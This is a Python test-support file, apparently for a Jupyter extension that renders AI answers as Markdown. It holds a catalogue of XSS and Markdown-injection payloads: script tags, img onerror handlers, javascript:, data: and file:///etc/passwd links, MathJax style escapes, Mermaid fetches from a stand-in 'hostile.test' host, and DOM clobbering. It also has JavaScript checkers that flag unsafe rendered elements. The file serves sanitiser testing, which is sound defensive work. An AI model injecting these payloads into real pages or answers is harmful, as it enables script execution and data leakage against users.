"""Answers that want to do something on the page, and what a page checks to find that one did."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Mapping

ATTACK = "window.pwned=true"
HOST = "http://hostile.test"
IMG = f"<img src={HOST}/x.png onerror='{ATTACK}'>"
CODE = f"```html\n{IMG}\n```"  # harmless, unless what stands above swallows its first line
LABEL = "b]: javascript:x\n\n[a b]"  # harmless, unless a label is open above

ATTACKS = {
    # HTML
    "script": f"<script>{ATTACK}</script>",
    "script from elsewhere": f"<script src={HOST}/x.js></script>",
    "img onerror": IMG,
    "img in capitals": f"<IMG SRC={HOST}/x.png OnError={ATTACK}>",
    "img with slashes": f"<img/src={HOST}/x.png/onerror={ATTACK}>",
    "img within a line": f"text {IMG} text",
    "img not closed": f"<img src={HOST}/x.png onerror='{ATTACK}' ",
    "img over two lines": f"<img\nsrc={HOST}/x.png\nonerror='{ATTACK}'>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.pwned = true</script>'></iframe>",
    "iframe src": f"<iframe src={HOST}/></iframe>",
    "svg onload": f"<svg onload='{ATTACK}'></svg>",
    "svg foreignObject": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "svg animate": f"<svg><animate onbegin='{ATTACK}' attributeName=x dur=1s></svg>",
    "svg image": f"<svg><image href={HOST}/x.png></svg>",
    "math": f"<math><mi xlink:href='javascript:{ATTACK}'>x</mi></math>",
    "style tag": f"<style>body {{ background: url({HOST}/x.png) }} @import '{HOST}/x.css';</style>",
    "style attribute": f"<p style='position:fixed;inset:0;background:url({HOST}/x.png)'>x</p>",
    "style expression": f"<p style='width:expression({ATTACK})'>x</p>",
    "link": f"<link rel=stylesheet href={HOST}/x.css>",
    "meta": f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    "base": f"<base href={HOST}/>",
    "object": f"<object data={HOST}/x></object>",
    "embed": f"<embed src={HOST}/x>",
    "form": f"<form action={HOST}/><input name=password><button>Go</button></form>",
    "video": f"<video src={HOST}/x.mp4 poster={HOST}/x.png onerror='{ATTACK}'></video>",
    "audio": f"<audio src={HOST}/x.mp3 onerror='{ATTACK}' autoplay></audio>",
    "details ontoggle": f"<details open ontoggle='{ATTACK}'>x</details>",
    "input autofocus": f"<input autofocus onfocus='{ATTACK}'>",
    "custom element": "<jp-button class=x>y</jp-button>",
    "data attributes of JupyterLab": "<a href='#' data-commandlinker-command='apputils:reset'>x</a>",
    "clobbered names": "<a id=jupyterapp name=jupyterapp></a><form id=pwned></form>",
    "comment": f"<!-- x --!> {IMG} -->",
    "processing instruction": f"<?x ?>{IMG}",
    "declaration": f"<!DOCTYPE x>{IMG}",
    "CDATA": f"<![CDATA[ ]]>{IMG}",
    "closing tags": f"</code></pre></p></div></details>{IMG}",
    "entities": f"&lt;img src=x onerror={ATTACK}&gt; &#60;img src={HOST}/x.png&#62;",
    "controls within a tag": f"<im\x00g src={HOST}/x.png><\x0cimg src=x onerror={ATTACK}>",
    # Links
    "javascript link": f"[x](javascript:{ATTACK})",
    "javascript link in capitals": "[x](JaVaScRiPt:x)",
    "javascript link with an entity": "[x](java&Tab;script:x) [x](&#106;avascript:x) [x](javascript&colon;x)",
    "javascript link with an escape": "[x](java\\script:x) [x](\\javascript:x)",
    "javascript link in brackets": "[x](<javascript:x>) [x](< javascript:x>)",
    "javascript link with controls": "[x](java\x01script:x) [x](\x01javascript:x) [x](java\rscript:x)",
    "javascript autolink": "<javascript:x>",
    "javascript definition": "[x]\n\n[x]: javascript:x",
    "javascript definition in a quotation": "[x]\n\n> [x]: javascript:x",
    "data link": "[x](data:text/html,<script>parent.pwned=true</script>)",
    "data image": "![x](data:image/svg+xml,<svg/onload=x>)",
    "vbscript link": "[x](vbscript:x)",
    "file link": "[x](file:///etc/passwd)",
    "link to a file of the server": "[x](/files/x.html) [y](x.html) [z](//hostile.test)",
    "ftp link": "[x](ftp://hostile.test/x) ftp://hostile.test `ftp://hostile.test`",
    # What is fetched
    "image": f"![x]({HOST}/x.png)",
    "image in a link": f"[![x]({HOST}/x.png)]({HOST}/)",
    "image by reference": f"![x][y] ![y][] ![y]\n\n[y]: {HOST}/x.png",
    "image with a title": f'![x]({HOST}/x.png "t")',
    "image with many marks": f"!!![x]({HOST}/x.png)",
    "image by an escaped mark": f"\\\\![x]({HOST}/x.png)",
    "attachment": "![x](attachment:x.png)",
    # Code
    "code span that is none": f"`{IMG}",
    "code span with an escape": f"\\`{IMG}`",
    "code span over a blank line": f"`\n\n{IMG}\n\n`",
    "code with markup": f"```html\n{IMG}\n```",
    "code with markup and no language": f"text\n```\n{IMG}\n```\ntext",
    "code that ends early": f"````\n```\n{IMG}\n```\n````",
    "code that ends early by another mark": f"~~~~\n~~~\n{IMG}\n~~~\n~~~~",
    "code that is not closed": f"```html\n{IMG}",
    "code in a list": f"- ```\n  {IMG}\n  ```",
    "code in a quotation": f"> ```\n> {IMG}\n> ```",
    "indented code": f"text\n\n    {IMG}\n",
    "indented code in a list": f"- x\n\n      {IMG}\n",
    "odd language": f'```py" onmouseover="{ATTACK}\nx\n```',
    "markup as language": f"```{IMG}\nx\n```",
    # Formulas
    "font of a character": "$\\unicode[x;position:fixed]{65}$",
    "font, spelled with an entity": "&#36;\\uni&#99;ode[x;position:fixed]{65}&#36;",
    "font, spelled with an entity beside a decoy": "&#36;\\href&#97; \\uni&#99;ode[x;position:fixed]{65}&#36;",
    "font in other marks": "\\\\(\\unicode[x;position:fixed]{65}\\\\) and \\\\[\\unicode[x;position:fixed]{65}\\\\]",
    "markup in a formula": f"$x{IMG}$ and $$\n{IMG}\n$$",
    "markup in an environment": f"\\begin{{x}}{IMG}\\end{{x}}",
    "half a formula": f"$$ {IMG}",
    "formula that runs on into code": f"$$\n```\n$$ {IMG}\n```",
    "environment that runs on into code": f"\\begin{{x}}\n```\n\\end{{x}} {IMG}\n```",
    "formula that runs on into the next line": f"\\\\(\n```html\n\\\\) {IMG}\n```",
    "formula that runs on within a quotation": "` http:// $\n~~~\n$[x](javascript:x)\n~~~",
    # Diagrams
    "diagram with a picture": f"```mermaid\nflowchart LR\nA@{{ img: '{HOST}/x.png' }}\n```",
    "diagram with markup": f"```mermaid\nflowchart LR\nA[{IMG}]\n```",
    "diagram with a link": '```mermaid\nflowchart LR\nA\nclick A href "javascript:x"\n```',
    "diagram with a style": f"```mermaid\nflowchart LR\nA\nstyle A fill:url({HOST}/x.svg)\n```",
    # Each of these was a way through an earlier version, or through JupyterLab's own renderer.
    "formula in a link": f'[x](http://a$" onmouseover="{ATTACK}" $)',
    "formula in an address": f'http://a$" onmouseover="{ATTACK}" $',
    "formula in a mail": f'<mailto:a$" onmouseover="{ATTACK}" $>',
    "language with a quotation mark": f'``` x" onmouseover="{ATTACK}\ny\n```',
    "image as a language": "\xa0>\n```![x](http://hostile.test/x.png)",
    "formula in other marks in an address": f'http://a\\\\(" onmouseover="{ATTACK}" \\\\)',
    "formula in a title": f'[x](http://a "$") " onmouseover="{ATTACK}" $")',
    "formula from a language on": f'```py\\\\(\n" onmouseover="{ATTACK}" \\\\)\n```',
    "two labels that run on": f"[x\n[y\n\n```html\n]: http://y\n{IMG}\n```",
    "lines that end in another way": "x\r\r[a]: javascript:x\n\n[a]",
    "label that runs on": f"[x\n\n```html\n]: http://y\n{IMG}\n```",
    "title that runs on": f'[a]: http://x "\n\n```html\n"\n{IMG}\n```',
    "fence, address and formula": f'```py "x"http://a$" onmouseover="{ATTACK}" $`{IMG}`\n\n',
    "diagram, fence and address": f'```mermaid```html\\www.a.b$" onmouseover=x $    {IMG}',
    "fence within emphasis": f'```**``` x" onmouseover="{ATTACK}* \\\\]\n```\n<div\n```\n\n',
    "label over a blank line": "[a\n\nb]: javascript:x\n\n[a b]",
    "definition in a task": "- [ ] [a]: javascript:x\n\n[a]",
}

FRAGMENTS = [
    *[
        "\n",
        "\n",
        "\n\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "> ",
        "1. ",
        "# ",
        "text",
        "|",
        "*",
        "~",
        "\\",
        "\r",
        "\u2028",
    ],
    *["```", "````", "~~~", "`", "``", "$", "$$", "\\\\(", "\\\\)", "\\begin{x}", "\\end{x}", "{", "}", "@@0@@"],
    *['[a]: b "', "[a]: http://x", "[a]: javascript:x", "[a]:", "[x", "](", "(", ")", '"', "[a]", "![a]"],
    *["\n]: http://y\n", "[ ] ", "+ ", "|a|\n|-|\n", "\x0b", "\x00", "\u00a0", "\ufeff", "'", "<details>", "]", "!"],
    *[
        IMG,
        f"<script>{ATTACK}</script>",
        "<",
        "<!--",
        "-->",
        "</pre>",
        "<pre>",
        "&lt;",
        "&#60;img>",
        "&",
        "&#96;",
        "~~",
    ],
    *["![a](http://127.0.0.1:1/x.png)", "[x](javascript:x)", "[x](java&Tab;script:x)", "<javascript:x>"],
    *["<https://a$b>", "http://a", 'www.a.b$" onmouseover=x $', '[x](http://a(b)$" onmouseover="x" $)', "a@b.c"],
    *['``` x" onmouseover="', '```py "x"', "$\\href{javascript:x}{y}$", "\n```\n", "- ```\n  <b>\n  ```\n", "\n---\n"],
    *[
        f"\n\n```html\n{IMG}\n```\n\n",
        "$\\unicode[x;position:fixed]{65}$",
        "\\unicode[x;position:fixed]{65}",
        "\n===\n",
    ],
]

# What an element of an answer may be, and say; all else is a fault. MathJax writes styles, and a diagram is a picture.
FAULTS = """(root) => {
  const known = new Set(("P H1 H2 H3 H4 H5 H6 A CODE PRE UL OL LI BLOCKQUOTE EM STRONG DEL S BR HR TABLE THEAD TBODY " +
    "TR TH TD SPAN INPUT DETAILS SUMMARY").split(" "));
  const attributes = new Set(("href class id target rel align style start type disabled checked title width valign " +
    "data-jupyter-id").split(" "));
  const styles = new Set(("text-align vertical-align line-height font-size background margin white-space word-break " +
    "overflow-wrap overflow text-overflow").split(" "));
  const isStyle = (style) => !style.trim() || (styles.has(style.split(":")[0].trim()) && !/[(\\\\]/.test(style));
  const isFault = (element) => {
    if (element.closest("mjx-container")) return isFaultOfFormula(element);
    if (element.closest(".jp-RenderedMermaid, .jp-Mermaid")) return isFaultOfDiagram(element);
    if (element.matches("div.highlight")) return false; // an export's
    return !known.has(element.localName.toUpperCase()) ||
      !element.getAttributeNames().every((name) => attributes.has(name)) ||
      !/^(https?:|mailto:|#)/.test(element.getAttribute("href") ?? "#") ||
      !(element.getAttribute("style") ?? "").split(";").every(isStyle) ||
      (element.id && !/^H[1-6]$/.test(element.tagName)) ||
      (element.localName === "input" && element.type !== "checkbox");
  };
  const isFaultOfFormula = (element) =>
    !/^(mjx-.*|a|span|math|m[a-z]+|semantics|none)$/.test(element.localName) ||
    element.getAttributeNames().some((name) => /^on/.test(name)) ||
    !/^#/.test(element.getAttribute("href") ?? "#") ||
    /fixed|absolute|sticky|url/.test(element.getAttribute("style") ?? "");
  const isFaultOfDiagram = (element) =>
    !/^(div|figure|img|figcaption|details|summary|pre|code|br)$/.test(element.localName) ||
    element.getAttributeNames().some((name) => /^on/.test(name)) ||
    /hostile.test/.test(element.outerHTML) || // what it shows may be fetched
    !/^data:image\\/svg/.test(element.getAttribute("src") ?? "data:image/svg");
  return [...root.querySelectorAll("*")].filter(isFault).map((element) => element.outerHTML.slice(0, 300));
}"""
# Rendered as in a cell that its user ran: trusted, so that nothing is sanitised. A list of faults for each document.
RENDER = f"""async (documents) => {{
  const {{ rendermime }} = window.jupyterapp.shell.currentWidget.content;
  const found = [];
  for (const source of documents) {{
    const renderer = rendermime.createRenderer("text/markdown");
    renderer.constructor.attach(renderer, document.body); // as a Lumino widget, so that its formulas are typeset
    await renderer.renderModel(rendermime.createModel({{ data: {{ "text/markdown": source }}, trusted: true }}));
    await rendermime.latexTypesetter.typeset(renderer.node);
    found.push(({FAULTS})(renderer.node));
    renderer.dispose();
  }}
  return found;
}}"""
# Inserted as the live view inserts what the kernel has made; an export's HTML, too.
INSERT = f"""(pieces) => pieces.map((html) => {{
  const template = document.createElement("template");
  template.innerHTML = html;
  const node = document.createElement("div");
  node.append(template.content);
  document.body.append(node);
  const found = ({FAULTS})(node);
  node.remove();
  return found;
}})"""


def made(answers: Mapping[str, str]) -> dict[str, dict[str, str]]:
    """Return what this package makes of answers: for each kind of page what is put there, by the answer's name."""
    from mixroute_magic.calls import ToolCall
    from mixroute_magic.display.blocks import Blocks
    from mixroute_magic.display.exchange import to_html
    from mixroute_magic.display.markdown import make_safe
    from mixroute_magic.display.output import Ending, Shown, bundle
    from mixroute_magic.reply import Reply
    from mixroute_magic.schemas import repair
    from mixroute_magic.wire import Message

    def live(text: str) -> str:
        blocks = Blocks()
        blocks.add(f"{text}\n\nend\n\nend\n\n")
        return blocks.take().html

    def ending(text: str, **more: Any) -> Ending:
        reply = Reply(text=text, model=text, reasoning=text, finish_reason=text)
        return Ending(reply=reply, status="failed", notes=[text], error=[text], name=text, **more)

    def shown(text: str, **more: Any) -> str:
        return bundle(ending(text, **more))["text/markdown"]

    def output(text: str) -> str:
        return shown(text, before=[Message("user", text), Message("assistant", text)])

    def steps(text: str) -> list[Message]:
        calls = [ToolCall(text, name, arguments).to_wire() for name, arguments in ((text, "{}"), ("f", text))]
        said = [Message("assistant", None, {"tool_calls": calls}), Message("tool", text, {"tool_call_id": text})]
        return [*said, Message("assistant", text), Message("user", repair(ValueError(text)))]

    def forms(text: str) -> str:
        records = json.dumps([{text: text}, {text: [text, 1], "a": {text: None}}])
        answers = [*((text, form) for form in ("text", "json", "record", "code")), (records, "record")]
        return "\n\n".join(bundle(ending(said, form=form))["text/markdown"] for said, form in answers)

    def table(text: str) -> str:
        return shown(text, alternatives=[ending(text), ending(CODE), ending(text), ending(LABEL)])

    def joined(text: str) -> str:
        outputs = [{"text/markdown": make_safe(part), "text/plain": ""} for part in (text, CODE, text, LABEL)]
        return Shown(text, outputs, {})._repr_mimebundle_()[0]["text/markdown"]

    def called(text: str) -> str:
        return shown(text, before=steps(text))

    documents = {"answer": make_safe, "output": output, "forms": forms, "table": table, "joined": joined}
    documents["called"] = called
    final = {f"{place}: {name}": make(text) for name, text in answers.items() for place, make in documents.items()}
    live_calls = {f"called: {name}": to_html(steps(text)) for name, text in answers.items()}
    return {"final": final, "live": {name: live(text) for name, text in answers.items()} | live_calls}
